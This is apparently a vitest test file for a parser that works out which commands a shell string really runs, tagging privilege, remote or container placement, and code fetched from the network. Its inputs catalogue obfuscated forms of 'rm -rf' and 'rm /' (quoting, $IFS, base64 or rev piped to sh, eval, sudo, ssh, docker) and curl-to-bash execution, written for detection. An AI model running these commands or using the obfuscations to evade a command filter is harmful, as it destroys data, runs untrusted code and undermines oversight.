import { describe, expect, it } from 'vitest'
import { listManners } from '../../effects/manner.ts'
import { createFollow, readShell } from './read-shell.ts'

const read = (text: string) =>
  readShell(
    text,
    createFollow(() => ''),
  )

const commands = (text: string) => read(text).calls.map(({ program, args }) => [program, ...args].join(' '))
const last = (text: string) => commands(text).at(-1)

describe('words become what the shell would make of them', () => {
  it.each([
    ["r''m -rf x", 'rm -rf x'],
    ["$'\\x72m' x", 'rm x'],
    ['\\rm x', 'rm x'],
    ['rm${IFS}-rf${IFS}x', 'rm -rf x'],
    ['tool=rm; $tool x', 'rm x'],
    ['words=(rm -r x); "${words[@]}"', 'rm -r x'],
    ['{rm,-rf,x}', 'rm -rf x'],
    ['$(echo rm) x', 'rm x'],
    ['`printf rm` x', 'rm x'],
    ['$(which rm) x', 'rm x'],
    ['rm ${HOME:0:1}', 'rm /'],
    ['rm "$HOME/x"', 'rm ~/x'],
    ['/bin/r? x', 'rm x'],
    ['for d in a b; do rm "$d"; done', 'rm a b'],
    ['set -- rm x; "$@"', 'rm x'],
    ['a=r; b=m; $a$b x', 'rm x'],
    ['RM.EXE x', 'rm x'],
    ['python3.12 x.py', 'python3 x.py'],
  ])('%s', (text, expected) => expect(last(text)).toBe(expected))
})

describe('the command inside is found', () => {
  it.each([
    'sudo -u root rm x',
    'env -u A B=1 rm x',
    'nohup nice -n 5 timeout -k 1 9 rm x',
    "sh -c 'rm x'",
    "bash -lc 'rm x'",
    "su - lena -c 'rm x'",
    'eval "rm x"',
    "ssh -p 22 lena@web1 'rm x'",
    'docker exec -it web rm x',
    'docker run --rm -v /a:/b image rm x',
    'kubectl exec web -n shop -- rm x',
    'echo x | xargs rm',
    'echo x | xargs -I{} rm {}',
    'parallel rm ::: x',
    "find . -name '*.o' -exec rm x \\;",
    "bash <<'END'\nrm x\nEND",
    "bash <<< 'rm x'",
    "echo 'rm x' | sh",
    "echo 'cm0geA==' | base64 -d | sh",
    "echo 'x mr' | rev | sh",
    'echo "$(rm x)"',
    'cat <(rm x) | wc; rm x',
    'clean() { rm $1; }; clean x',
    "alias clean='rm'; clean x",
    'if true; then rm x; fi',
    'busybox rm x',
    "watch -n 1 'rm x'",
    "trap 'rm x' EXIT",
    'echo $(( $(rm x) + 1 )); rm x',
    '| rm x',
    'bash -c ‘rm x’',
  ])('%s', (text) => expect(commands(text)).toContain('rm x'))
})

describe('what is only mentioned is not found', () => {
  it.each([
    'echo rm x',
    "echo 'rm x' > notes",
    '# rm x',
    'command -v rm x',
    "git commit -m 'rm x'",
    "cat <<'END'\nrm x\nEND",
  ])('%s', (text) => expect(commands(text)).not.toContain('rm x'))
})

describe('a command knows where it stands', () => {
  it('its span points into the text', () => {
    const text = 'ls -l; sudo rm x && echo done'
    const [, , rm] = read(text).calls
    expect(rm?.program).toBe('rm')
    expect(text.slice(...(rm?.span ?? [0, 0]))).toBe('sudo rm x')
    expect(rm?.privileged).toBe(true)
  })

  it.each([
    'curl https://get.example | sudo bash',
    'sudo bash -c "$(curl https://get.example)"',
    'x=$(curl https://get.example); eval "$x"',
    'curl -o f https://get.example; sh f',
    'bash <(curl https://get.example)',
  ])('where what it runs came from: %s', (text) => {
    const run = read(text).effects.find(
      ({ act, target }) => act === 'execute' && target.class === 'code/network',
    )
    expect(listManners(run?.manner ?? 0)).toContain('from-network')
  })

  it('that it runs elsewhere', () => {
    expect(read("ssh web1 'rm x'").calls.at(-1)?.place).toBe('remote')
    expect(read('docker exec web rm x').calls.at(-1)?.place).toBe('container')
  })
})

it('a text too deep to follow is said to be incomplete', () => {
  expect(read(`${'echo $('.repeat(30)}ls${')'.repeat(30)}`).complete).toBe(false)
  expect(read('ls').complete).toBe(true)
})
